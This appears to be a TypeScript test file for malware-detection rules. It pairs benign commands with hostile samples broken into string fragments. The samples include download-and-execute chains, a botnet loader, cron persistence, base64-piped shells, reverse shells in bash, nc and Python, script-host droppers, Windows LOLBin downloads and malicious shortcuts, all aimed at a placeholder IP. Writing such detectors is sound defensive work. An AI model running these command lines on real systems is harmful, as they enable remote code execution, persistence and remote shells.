import { checkRule } from "./check-rule.ts";

checkRule("Shell_Downloads_Runs_Deletes", {
  matches: {
    "the usual chain": [
      "wg",
      "et http://203.0.113.5/bin.sh -O /tmp/b; chm",
      "od 777 /tmp/b; sh /tmp/b; r",
      "m -rf /tmp/b\n",
    ],
    "with curl": ["cd /tmp && cu", "rl -O http://203.0.113.5/x && chm", "od +x x && ./x && r", "m -f x\n"],
  },
  misses: {
    "an installer": ["curl -LO https://example.com/tool && chmod +x tool && sudo mv tool /usr/local/bin/\n"],
    "steps on lines of their own": [
      "wget https://example.com/a.tar.gz\ntar xf a.tar.gz\nchmod +x a/run\n./a/run\nrm a.tar.gz\n",
    ],
  },
});

checkRule("Shell_Botnet_Loader", {
  matches: {
    "a loader": [
      "cd /tm",
      "p || cd /var/run || cd /mnt || cd /root || cd /; wg",
      "et http://203.0.113.5/bins/a.mips; chm",
      "od 777 a.mips; ./a.mips\n",
    ],
  },
  misses: {
    "a script for several processors": ["wg", "et https://example.com/tool-arm7.tar.gz\nchm", "od +x tool\n"],
    "a fallback folder": ["cd /tm", "p || cd /var/tmp || exit 1\nmake\n"],
  },
});

checkRule("Shell_Scheduled_Download", {
  matches: {
    "a crontab": ["*/5 * * * * root cu", "rl -fsSL http://203.0.113.5/i.sh | s", "h\n"],
    "a command that installs one": [
      '(crontab -l; echo "* * * * * wg',
      "et -q -O - http://203.0.113.5/i | ba",
      'sh") | crontab -\n',
    ],
    "at every start": ["@reboot cu", "rl http://203.0.113.5/i | s", "h\n"],
  },
  misses: {
    "a health check": ["*/5 * * * * root curl -fsS https://example.com/ping > /dev/null\n"],
    "an installer": ["curl -fsSL https://example.com/install.sh | sh\n"],
  },
});

const blob = Buffer.from("echo one; echo two; echo three; ".repeat(4)).toString("base64");

checkRule("Shell_Runs_Encoded", {
  matches: { "a command": ["ec", `ho ${blob} | base`, "64 -d | ba", "sh\n"] },
  misses: {
    "a secret that is decoded": [`echo ${blob} | base64 -d > secret.txt\n`],
    "a short one": ["echo aGVsbG8= | base64 -d | sh\n"],
  },
});

checkRule("Reverse_Shell", {
  matches: {
    "with bash": ["ba", "sh -i >& /dev/tc", "p/203.0.113.5/4444 0>&1\n"],
    "with a pipe": ["mk", "fifo /tmp/f; cat /tmp/f | /bin/s", "h -i 2>&1 | n", "c 203.0.113.5 4444 > /tmp/f\n"],
    "with Python": [
      "import socket,os,pty;s=socket.soc",
      "ket();s.connect(('203.0.113.5',4444));os.du",
      "p2(s.fileno(),0);os.du",
      "p2(s.fileno(),1);pty.spa",
      "wn('/bin/s",
      "h')",
    ],
  },
  misses: {
    "a test whether a port is open": ["timeout 1 bash -c '</dev/tcp/localhost/5432' && echo open\n"],
    "a server in Python": ["import socket\ns = socket.socket()\ns.bind(('', 80))\nos.system('/bin/sh start.sh')\n"],
  },
});

checkRule("Script_Host_Dropper", {
  matches: {
    VBScript: [
      'Set h = CreateObject("MSXML2.XML',
      'HTTP")\nSet s = CreateObject("ADODB.Str',
      'eam")\ns.Write h.responseBody\ns.SaveTo',
      'File p\nCreateObject("WScr',
      'ipt.Shell").Run p\n',
    ],
    "JScript as Windows saves it": Buffer.from(
      [
        'var h = new ActiveXObject("WinHttp.WinHttpReq',
        'uest.5.1"); var s = new ActiveXObject("ADODB.Str',
        'eam"); s.SaveTo',
        'File(p); new ActiveXObject("Shell.Appli',
        'cation").ShellExecute(p);',
      ].join(""),
      "utf16le",
    ),
  },
  misses: {
    "a script that saves a report": [
      'Set h = CreateObject("MSXML2.XML',
      'HTTP")\nSet s = CreateObject("ADODB.Str',
      'eam")\ns.SaveTo',
      'File "report.csv"\n',
    ],
    "a script that runs something": ['CreateObject("WScript.Shell").Run "notepad.exe"\n'],
  },
});

checkRule("Windows_Tool_Downloads_And_Runs", {
  matches: {
    certutil: ["cert", "util -url", "cache -split -f http://203.0.113.5/a.exe %TEMP%\\a.exe & start %TEMP%\\a.exe\n"],
    bitsadmin: ["bits", "admin /trans", "fer j http://203.0.113.5/a.exe C:\\a.exe & C:\\a.exe\n"],
    mshta: ["msh", "ta http://203.0.113.5/a.hta\n"],
    regsvr32: ["regsv", "r32 /s /n /u /i:http://203.0.113.5/a.sct scr", "obj.dll\n"],
  },
  misses: {
    "certutil that checks a file": ["certutil -hashfile setup.exe SHA256\nstart setup.exe\n"],
    "a text about it": ["The tool mshta runs applications written in HTML. See https://example.com/mshta.\n"],
    "a library that is registered": ["regsvr32 /s vbscript.dll\n"],
  },
});

const shortcut = Buffer.from("4c0000000114020000000000c000000000000046", "hex");
const pointing = (...pieces: string[]): Uint8Array =>
  Buffer.concat([shortcut, Buffer.alloc(60), Buffer.from(pieces.join(""), "utf16le")]);

checkRule("Shortcut_Runs_Script", {
  matches: {
    "a hidden window": pointing("C:\\Windows\\System32\\power", "shell.exe -w hid", "den -c calc"),
    "a page": pointing("C:\\Windows\\System32\\msh", "ta.exe http", "://203.0.113.5/a"),
  },
  misses: {
    "a shortcut to a program": pointing("C:\\Program Files\\Editor\\editor.exe"),
    "a shortcut to the interpreter": pointing("C:\\Windows\\System32\\cmd.exe /k cd \\work"),
    "a text with the same words": ["A shortcut that starts cmd.exe with https://example.com in it"],
  },
});
